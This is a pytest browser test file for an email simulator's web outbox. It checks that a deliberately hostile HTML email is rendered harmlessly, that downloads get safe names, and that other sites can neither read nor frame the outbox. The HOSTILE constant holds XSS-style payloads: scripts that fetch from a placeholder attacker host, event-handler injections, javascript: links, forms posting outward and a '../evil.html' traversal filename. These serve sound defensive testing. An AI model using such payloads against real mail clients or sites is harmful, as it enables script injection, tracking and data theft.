"""The outbox's pages as a browser shows them, and what it is kept from doing."""

import base64
import json
import urllib.request
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

from sestui.core.clock import SystemClock
from sestui.simulator.api.access import link_token
from sestui.simulator.launch import SimulatorProcess, start_simulator

HOSTILE = """\
<html><head>
<meta http-equiv="refresh" content="0;url=EVIL/refresh">
<base href="EVIL/" target="_top">
<link rel="stylesheet" href="EVIL/style.css"><link rel="preconnect" href="EVIL">
<style>@import "EVIL/import.css"; body {{ background: url(EVIL/background.png) }}
@font-face {{ font-family: f; src: url(EVIL/font.woff) }} h1 {{ font-family: f }}</style>
<script>document.title = parent.document.title = top.name = "ran"; fetch("EVIL/fetch")</script>
<script src="EVIL/script.js"></script>
</head><body onload="document.body.id = 'ran'">
<h1>Hello Ada</h1>
<img src="EVIL/pixel.png" alt="pixel"><img src=x onerror="document.body.id = 'ran'">
<img id="inline" src="cid:logo">
<svg onload="document.body.id = 'ran'"><image href="EVIL/svg.png"/></svg>
<iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
<video src="EVIL/video" poster="EVIL/poster" autoplay></video>
<form action="EVIL/form" method="post" target="_top">
<input name="secret" autofocus onfocus="document.body.id = 'ran'"><button>Send</button></form>
<a id="out" href="EVIL/link" target="_top">out</a> <a id="plain" href="EVIL/link">plain</a>
<a id="in" href="EVIL/link" target="_self">in</a>
<a id="script" href="javascript:document.body.id = 'ran'" target="_self">script</a>
</body></html>
"""
PIXEL = bytes.fromhex(
    "47494638396101000100800000ff000000000021f90401000000002c00000000010001000002024401003b"
)


@pytest.fixture(scope="module")
def simulator(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimulatorProcess]:
    workspace = tmp_path_factory.mktemp("outbox")
    with start_simulator(workspace, rate=100_000, quota=-1, latency=0) as process:
        yield process


def at(simulator: SimulatorProcess, path: str = "") -> str:
    """A link to a page of the outbox, as sestui's own Outbox opens it."""
    token = link_token(simulator.access_key_id, SystemClock().now())
    return f"{simulator.endpoint_url}{path}?token={token}"


def send(simulator: SimulatorProcess, to: str, subject: str, **body: str) -> str:
    content = {
        "Subject": {"Data": subject},
        "Body": {kind.title(): {"Data": text} for kind, text in body.items()},
    }
    return posted(
        simulator,
        FromEmailAddress="news@example.com",
        Destination={"ToAddresses": [to]},
        Content={"Simple": content},
    )


def send_hostile(simulator: SimulatorProcess, evil: str) -> str:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "e@example.com", "a@example.org", "Evil"
    message.set_content("plain")
    message.add_alternative(HOSTILE.replace("EVIL", evil), subtype="html")
    (_, html) = message.iter_parts()
    html.add_related(PIXEL, "image", "gif", cid="<logo>")  # type: ignore[attr-defined]
    message.add_attachment("<script>1</script>", subtype="html", filename="../evil.html")
    return posted(simulator, Content={"Raw": {"Data": base64.b64encode(bytes(message)).decode()}})


def posted(simulator: SimulatorProcess, **request: Any) -> str:
    call = urllib.request.Request(
        f"{simulator.endpoint_url}/v2/email/outbound-emails",
        json.dumps(request).encode(),
        {"Authorization": f"Bearer {simulator.access_key_id}"},
    )
    with urllib.request.urlopen(call) as answer:
        message_id: str = json.load(answer)["MessageId"]
        return message_id


@pytest.mark.long
@pytest.mark.ci
def test_a_hostile_mail_does_nothing(
    simulator: SimulatorProcess, page: Any, elsewhere: Any
) -> None:
    mail = send_hostile(simulator, elsewhere.url)
    address = f"{simulator.endpoint_url}/outbox/{mail}"
    page.goto(at(simulator, f"/outbox/{mail}"))
    page.wait_for_url(address)
    frame = page.frame_locator("iframe")
    assert frame.locator("h1").inner_text() == "Hello Ada"
    # The image that came along is there: what is blocked is blocked, not broken.
    page.wait_for_timeout(1500)  # refreshes, loads and scripts would have had their time
    inline = page.frames[1].evaluate("document.querySelector('#inline').naturalWidth")
    assert inline == 1
    for inside in ("#out", "#plain", "#script", "button"):
        frame.locator(inside).click()
        page.wait_for_timeout(200)
        assert frame.locator("h1").inner_text() == "Hello Ada"
    assert "Evil" in page.title()
    assert page.evaluate("window.name") == ""
    assert frame.locator("body").get_attribute("id") is None

    frame_only = f"{address}/frame"
    page.goto(frame_only)  # on its own it may do as little
    page.wait_for_timeout(1000)
    assert (page.url, page.locator("body").get_attribute("id")) == (frame_only, None)
    page.locator("button").click()
    page.wait_for_timeout(200)
    assert page.url == frame_only

    assert elsewhere.asked == []
    page.goto(address)
    frame.locator("#in").click()  # who wants to may have the browser connect, and no more
    page.wait_for_timeout(500)
    assert (page.url, len(page.context.pages)) == (address, 1)
    assert set(elsewhere.asked) <= {"connection"}
    page.goto(f"{elsewhere.url}/control")
    assert "/control" in elsewhere.asked


@pytest.mark.long
@pytest.mark.ci
def test_the_list_leads_to_every_view_without_javascript(
    simulator: SimulatorProcess, browser: Any
) -> None:
    for number in range(60):
        send(simulator, f"reader{number}@example.org", f"Your news {number}", text="Hello reader")
    context = browser.new_context(java_script_enabled=False, color_scheme="dark")
    page = context.new_page()
    page.goto(at(simulator))
    page.wait_for_url("**/outbox")
    rows = page.locator("table.mails tbody tr")
    assert rows.count() == 50
    assert "Your news 59" in rows.first.inner_text()
    page.get_by_role("link", name="Older").click()
    page.wait_for_url("**before=*")
    assert "Your news 9" in rows.first.inner_text()
    page.get_by_role("searchbox").fill("READER33@")
    page.get_by_role("button", name="Find").click()
    page.wait_for_url("**find=READER33*")
    assert rows.count() == 1
    page.get_by_role("link", name="Your news 33").click()
    page.wait_for_url("**/outbox/*")
    assert page.locator("pre").inner_text() == "Hello reader"
    page.get_by_role("link", name="Headers").click()
    page.wait_for_url("**/headers")
    assert "Your news 33" in page.locator("table.headers").inner_text()
    page.get_by_role("link", name="Source").click()
    page.wait_for_url("**/source")
    assert "Subject: Your news 33" in page.locator("pre").inner_text()
    page.get_by_role("link", name="Older").click()
    page.wait_for_url("**/source")
    assert "Subject: Your news 32" in page.locator("pre").inner_text()
    context.close()


def test_files_are_kept_under_harmless_names(
    simulator: SimulatorProcess, page: Any, tmp_path: Path
) -> None:
    mail = send_hostile(simulator, "http://localhost:9")
    page.goto(at(simulator, f"/outbox/{mail}"))
    page.wait_for_url(f"**/outbox/{mail}")
    for link, name, begins in (
        ("evil.html", "evil.html", b"<script>"),
        ("Keep as .eml", f"{mail}.eml", b"From: e@example.com"),
    ):
        with page.expect_download() as waiting:
            page.get_by_role("link", name=link).click()
        assert waiting.value.suggested_filename == name
        waiting.value.save_as(tmp_path / "kept")
        assert (tmp_path / "kept").read_bytes().startswith(begins)
    assert f"/outbox/{mail}" in page.url


@pytest.mark.long
@pytest.mark.ci
def test_other_sites_can_neither_read_nor_frame_it(
    simulator: SimulatorProcess, page: Any, elsewhere: Any
) -> None:
    send(simulator, "ada@example.org", "Private", text="x")
    outbox = f"{simulator.endpoint_url}/outbox"
    page.goto(at(simulator, "/outbox"))
    page.wait_for_url(outbox)  # the browser has been let in, and still no other site gets anything
    page.goto(elsewhere.url)
    for mode in ("cors", "no-cors"):
        asked = "fetch(url, {mode}).then(() => 'read', () => 'refused')"
        assert page.evaluate(f"([url, mode]) => {asked}", [outbox, mode]) == "refused"
    page.evaluate("url => { document.body.innerHTML = `<iframe src='${url}'></iframe>` }", outbox)
    page.wait_for_timeout(700)
    assert page.frame_locator("iframe").locator("table").count() == 0


def test_a_link_on_another_site_lets_the_browser_in_too(
    simulator: SimulatorProcess, page: Any, elsewhere: Any
) -> None:
    send(simulator, "ada@example.org", "Linked", text="x")
    page.goto(f"{simulator.endpoint_url}/outbox")
    assert "The outbox opens by a link" in page.locator("main").inner_text()
    page.goto(elsewhere.url)
    page.evaluate("url => { location.href = url }", at(simulator, "/outbox"))
    page.wait_for_url(f"{simulator.endpoint_url}/outbox")
    assert "Linked" in page.locator("table.mails").inner_text()
